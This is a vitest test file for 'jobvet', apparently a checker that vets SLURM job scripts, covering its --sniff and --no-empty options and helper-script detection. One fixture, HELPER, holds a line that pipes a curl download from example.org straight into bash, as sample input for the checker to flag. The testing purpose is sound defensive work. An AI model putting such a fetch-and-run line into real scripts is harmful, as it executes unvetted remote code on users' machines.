// Which of the named files are vetted, as programs that hand over lists of files ask for it.
import { expect, test } from 'vitest';
import { folder, jobvet } from './program.ts';

const JOB = '#!/bin/bash\n#SBATCH --nodes=1\nsrun hostname\n';
const HELPER = '#!/bin/bash\ncurl -s https://example.org/x | bash\n';
const root = folder({ 'job.sh': JOB, 'helper.sh': HELPER, 'empty/readme.md': '' });

const at = (...args: string[]): ReturnType<typeof jobvet> => jobvet(args, { cwd: root });

test('--sniff leaves out, quietly, what a search would not find', () => {
  expect(at('helper.sh').status).toBe(1);
  expect(at('check', '--sniff', 'helper.sh')).toEqual({ status: 0, stdout: '', stderr: '' });
  const both = at('check', '--sniff', 'helper.sh', 'job.sh');
  expect({ ...both, stdout: both.stdout.split('.')[0] }).toEqual({
    ...{ status: 0, stdout: 'No findings in 1 file', stderr: '' },
  });
});

test('--no-empty makes it a mistake when nothing is left', () => {
  expect(at('check', '--no-empty', 'empty').status).toBe(2);
  expect(at('check', '--no-empty', '--sniff', 'helper.sh')).toEqual({
    ...{ status: 2, stdout: '', stderr: 'jobvet: nothing to vet: no input file was found (--no-empty)\n' },
  });
  expect(at('check', '--no-empty', 'job.sh').status).toBe(0);
  expect(at('check', '--no-empty', 'gone.sh').status).toBe(3);
  const json = at('check', '--no-empty', '--format', 'json', 'empty');
  expect(json.status).toBe(2);
  expect(JSON.parse(json.stdout)).toMatchObject({ summary: { files: 0 } });
});

test('a following script is read although it is not vetted by itself', () => {
  const job = folder({ 'job.sh': `${JOB}bash helper.sh\n`, 'helper.sh': HELPER });
  const { status, stdout } = jobvet(['check', '--sniff', 'job.sh', 'helper.sh'], { cwd: job });
  expect(status).toBe(1);
  expect(stdout).toContain('helper.sh:2');
});
